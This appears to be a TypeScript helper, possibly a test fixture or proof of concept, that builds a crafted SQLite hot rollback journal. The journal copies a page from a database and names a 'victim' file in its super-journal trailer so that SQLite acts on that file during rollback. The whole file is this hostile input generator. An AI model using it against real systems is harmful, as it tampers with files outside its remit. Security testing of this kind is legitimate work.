/** A rollback journal, byte by byte as SQLite writes it. */
import { readFileSync } from 'node:fs';

/** A journal of a change of two files: SQLite would play it back, and look after the file that it names. */
export function journalNaming(victim: string, file: string): Buffer {
  const bytes = readFileSync(file);
  const head = Buffer.alloc(512);
  Buffer.from('d9d505f920a163d7', 'hex').copy(head);
  for (const [at, number] of [
    [8, 1],
    [12, 7],
    [16, bytes.length / 4096],
    [20, 512],
    [24, 4096],
  ] as const)
    head.writeUInt32BE(number, at);
  const page = Buffer.alloc(4 + 4096 + 4);
  page.writeUInt32BE(2, 0);
  bytes.copy(page, 4, 4096, 8192);
  let sum = 7;
  for (let at = 4096 - 200; at > 0; at -= 200) sum += page[4 + at] ?? 0;
  page.writeUInt32BE(sum, 4 + 4096);
  const name = Buffer.from(victim);
  const tail = Buffer.alloc(4 + name.length + 16);
  tail.writeUInt32BE(0x40000000 / 4096 + 1, 0);
  name.copy(tail, 4);
  tail.writeUInt32BE(name.length, 4 + name.length);
  tail.writeUInt32BE(name.reduce((total, byte) => total + ((byte << 24) >> 24), 0) >>> 0, 8 + name.length);
  Buffer.from('d9d505f920a163d7', 'hex').copy(tail, 12 + name.length);
  return Buffer.concat([head, page, tail]);
}
